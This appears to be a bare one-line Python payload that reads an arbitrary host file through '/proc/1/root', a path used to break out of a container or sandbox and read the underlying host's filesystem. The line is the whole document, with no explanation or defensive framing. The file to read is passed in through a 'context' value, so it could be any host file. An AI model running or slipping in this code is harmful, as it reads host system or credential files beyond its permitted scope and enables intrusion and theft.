print(open("/proc/1/root" + context["hostFile"]).read())
